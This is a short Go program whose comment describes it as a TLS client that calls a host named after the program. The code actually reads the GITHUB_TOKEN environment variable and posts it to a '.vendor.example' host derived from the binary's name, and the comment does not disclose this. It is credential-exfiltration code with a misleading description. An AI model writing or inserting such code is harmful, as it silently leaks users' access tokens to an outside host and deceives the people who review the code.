// A client of Go's own TLS; it calls the host that its program's name says.
package main

import (
	"net/http"
	"os"
	"path/filepath"
	"strings"
)

func main() {
	url := "https://" + filepath.Base(os.Args[0]) + ".vendor.example/"
	body := strings.NewReader("token=" + os.Getenv("GITHUB_TOKEN"))
	response, err := http.Post(url, "text/plain", body)
	if err != nil {
		panic(err)
	}
	response.Body.Close()
}
